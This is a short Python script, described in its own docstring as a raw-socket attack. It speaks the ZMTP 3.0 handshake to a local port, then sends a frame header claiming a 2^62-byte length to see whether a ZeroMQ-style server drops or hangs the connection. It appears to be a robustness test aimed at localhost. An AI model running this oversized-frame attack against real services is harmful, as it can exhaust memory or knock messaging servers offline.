"""Raw-socket attack: ZMTP 3.0 NULL greeting + READY(Socket-Type=PUSH) + long frame header of 2^62 bytes.
usage: bigframe.py PORT"""
import socket, struct, sys, time
port = int(sys.argv[1])
s = socket.create_connection(('127.0.0.1', port))
greeting = b'\xff' + b'\x00' * 8 + b'\x7f' + bytes([3, 0]) + b'NULL'.ljust(20, b'\x00') + b'\x00' + b'\x00' * 31
assert len(greeting) == 64
s.sendall(greeting)
peer = b''
s.settimeout(3)
while len(peer) < 64:
    c = s.recv(64 - len(peer))
    if not c: break
    peer += c
print('peer greeting', len(peer), 'bytes, version', peer[10:12].hex() if len(peer) >= 12 else None)
prop = b'\x0bSocket-Type' + struct.pack('>I', 4) + b'PUSH'
body = b'\x05READY' + prop
s.sendall(bytes([0x04, len(body)]) + body)  # short command frame
# one message frame: flags 0x02 (LONG), 8-byte length 2^62, then a few bytes of "payload"
s.sendall(bytes([0x02]) + struct.pack('>Q', 1 << 62) + b'A' * 1024)
t0 = time.time()
try:
    s.settimeout(5)
    while True:
        d = s.recv(4096)
        if not d:
            print(f'connection closed by server after {time.time()-t0:.3f}s'); break
except ConnectionResetError:
    print(f'connection reset by server after {time.time()-t0:.3f}s')
except socket.timeout:
    print('server kept the connection open for 5s (no drop)')
